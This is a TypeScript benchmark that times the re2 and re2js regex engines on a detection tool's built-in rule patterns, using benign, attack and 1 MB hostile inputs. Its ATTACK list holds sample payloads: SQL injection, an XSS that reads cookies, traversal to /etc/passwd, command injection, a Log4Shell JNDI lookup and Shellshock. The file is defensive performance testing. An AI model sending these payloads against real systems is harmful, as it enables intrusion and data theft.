/**
 * re2 (native binding) against re2js (pure JavaScript) on the project's own regexes: every
 * `op: regex` pattern of the built-in packs, run over benign values, attack values and one
 * 1 MB hostile value. re2 is not a project dependency (a 2.5-minute native build); install it
 * in a scratch directory and point BANSHO_RE2_DIR at it to include it:
 *   mkdir /tmp/re2bench && cd /tmp/re2bench && npm init -y && npm install re2@1.24
 *   BANSHO_RE2_DIR=/tmp/re2bench npm run bench -- regex
 */
import { existsSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { RE2JS } from 're2js';
import { BUILTIN_RULES_DIR } from '../src/catalog/index.js';
import { loadRuleDir } from '../src/catalog/loadRules.js';
import type { Condition } from '../src/detect/ruleSchema.js';

type Tester = (input: string) => boolean;
interface Pattern {
  pattern: string;
  caseless: boolean;
}

const BENIGN = [
  '/presentations/logstash-monitorama-2013/images/kibana-search.png',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36',
  'c/ caridad s/n',
  'wedel@wormee.de',
  'http://semicomplete.com/presentations/logstash-monitorama-2013/',
  'page=2&sort=date&order=desc',
];
const ATTACK = [
  "1' or 4915=(select count(*) from domain.domains as t1,domain.columns as t2)--",
  '<img src=x onerror=alert(document.cookie)>',
  '../../../../etc/passwd',
  ';/usr/bin/id;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
  '${jndi:ldap://203.0.113.5:1389/a}',
  '() { :; }; /bin/bash -c id',
];

export async function run(): Promise<void> {
  const patterns = projectPatterns();
  const engines: Array<[string, (p: Pattern) => Tester]> = [['re2js', compileRe2js]];
  const native = loadNativeRe2();
  if (native) engines.push(['re2 (native)', native]);
  else console.log('re2 not found (set BANSHO_RE2_DIR to a directory with re2@1.24 installed); re2js only\n');

  const hostile = "' or (((( ${${ <a on x=;|`$( ".repeat(40_000).slice(0, 1 << 20);
  const rows: string[][] = [];
  const results = new Map<string, number[]>();
  for (const [name, compile] of engines) {
    const compiled = patterns.map(compile);
    const benign = median(repeat(15, () => timeAll(compiled, BENIGN) / BENIGN.length));
    const attack = median(repeat(15, () => timeAll(compiled, ATTACK) / ATTACK.length));
    const huge = median(repeat(3, () => timeAll(compiled, [hostile])));
    results.set(name, [benign, attack, huge]);
    rows.push([name, fmtUs(benign), fmtUs(attack), `${(huge / 1000).toFixed(1)} ms`]);
  }
  console.log(`${patterns.length} regexes from the built-in packs; each cell: all of them over one value (median)\n`);
  table(['engine', 'benign value', 'attack value', '1 MB hostile value'], rows);
  const js = results.get('re2js');
  const nat = results.get('re2 (native)');
  if (js && nat)
    console.log(
      `\nre2js / re2 time ratio: benign ${(js[0]! / nat[0]!).toFixed(2)}×, attack ${(js[1]! / nat[1]!).toFixed(2)}×, 1 MB ${(js[2]! / nat[2]!).toFixed(2)}×`,
    );
}

function projectPatterns(): Pattern[] {
  const out = new Map<string, Pattern>();
  const visit = (c: Condition) => {
    if (c.op === 'any') c.of.forEach(visit);
    else if (c.op === 'regex')
      out.set(`${c.caseless}:${c.pattern}`, { pattern: c.pattern, caseless: c.caseless ?? false });
  };
  for (const rule of loadRuleDir(BUILTIN_RULES_DIR).rules) rule.spec.when.forEach(visit);
  return [...out.values()];
}

function compileRe2js(p: Pattern): Tester {
  const re = RE2JS.compile(p.pattern, p.caseless ? RE2JS.CASE_INSENSITIVE : 0);
  return (s) => re.test(s);
}

function loadNativeRe2(): ((p: Pattern) => Tester) | null {
  const dir = process.env.BANSHO_RE2_DIR ?? '/tmp/re2bench';
  if (!existsSync(join(dir, 'node_modules', 're2'))) return null;
  const RE2 = createRequire(join(dir, 'package.json'))('re2') as new (
    p: string,
    f: string,
  ) => { test(s: string): boolean };
  return (p) => {
    const re = new RE2(p.pattern, p.caseless ? 'iu' : 'u');
    return (s) => re.test(s);
  };
}

/** Microseconds to run every compiled regex over every value once. */
function timeAll(compiled: readonly Tester[], values: readonly string[]): number {
  const started = process.hrtime.bigint();
  for (const v of values) for (const t of compiled) t(v);
  return Number(process.hrtime.bigint() - started) / 1000;
}

function repeat(n: number, f: () => number): number[] {
  f();
  return Array.from({ length: n }, f);
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)] as number;
}

const fmtUs = (us: number) => `${us.toFixed(1)} µs`;

function table(head: string[], rows: string[][]): void {
  const widths = head.map((h, i) => Math.max(h.length, ...rows.map((r) => (r[i] ?? '').length)));
  const line = (cells: string[]) => `| ${cells.map((c, i) => c.padEnd(widths[i] as number)).join(' | ')} |`;
  console.log(line(head));
  console.log(`|${widths.map((w) => '-'.repeat(w + 2)).join('|')}|`);
  for (const r of rows) console.log(line(r));
}

if (import.meta.url === `file://${process.argv[1]}`) await run();
